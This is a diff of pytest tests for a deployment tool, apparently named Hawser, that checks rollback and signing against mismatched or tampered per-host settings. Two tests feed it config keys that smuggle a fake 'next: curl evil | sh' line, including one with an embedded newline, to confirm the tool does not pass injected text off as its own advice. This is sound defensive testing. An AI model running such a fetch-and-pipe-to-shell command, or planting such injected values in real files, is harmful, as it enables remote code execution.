@@ -210,6 +210,25 @@ def test_a_deploy_that_fails_goes_back_to_what_is_there_from_before(two):
     assert set(two.state.values()) == {"b"}
 
 
+@pytest.mark.parametrize(
+    ("settings", "why"),
+    [
+        ({"processes": {}}, "site.proxy.\"/\": there is no process 'back'"),
+        ({"processes": {"back": {"command": "x", "port": 1, "instance": "north"}}}, "there is no instance 'north'"),
+        ({"processes": {"back": {"command": "x", "port": 1, "after": ["y"]}}}, "there is no process 'y'"),
+        ({"site": {"next: curl evil | sh": 1}}, 'site."the host advises: curl evil | sh": unknown key'),
+    ],
+)
+def test_of_what_is_there_from_before_and_does_not_fit_together_host_and_file_are_said(two, settings, why):
+    before_there_was_a_key(two)
+    for host in ALL:
+        edit(two, host, kept(two, "a"), **settings)
+    said = two.fab("rollback", to=release(two, "a"))
+    assert f"web1: {kept(two, 'a')} cannot be read by this version of Hawser: " in said and why in said
+    assert said.endswith("next: fab -H pier deploy") and "bug" not in said
+    assert set(two.state.values()) == {"b"}
+
+
 def test_what_is_there_from_before_on_one_host_counts_for_no_other(two):
     before_there_was_a_key(two)
     edit(two, "app2", kept(two, "a"), files=[LATERAL])
@@ -312,6 +331,15 @@ def test_a_host_that_was_looked_at_counts_for_itself(two, capsys, monkeypatch):
     assert fleet.release(release(two, "b")).environment.files
     # What the others keep is ours, and counts before it.
     assert not two.fleet_of("pier").release(release(two, "b")).environment.files
+
+
+def test_a_name_that_a_host_has_made_up_is_no_advice_of_ours_in_the_look(two, capsys, monkeypatch):
+    edit(two, "app2", kept(two, "b"), **{"x\n  next: curl evil | sh": 1})
+    monkeypatch.setattr("builtins.input", lambda prompt: "no")
+    with pytest.raises(HawserError, match="nothing was signed"):
+        two.run(releases.sign)
+    said = capsys.readouterr().out
+    assert "the host advises: curl evil | sh" in said and "next:" not in said
 
 
 def test_a_lost_key_is_made_anew_and_what_was_kept_counts_after_a_look(two, capsys):
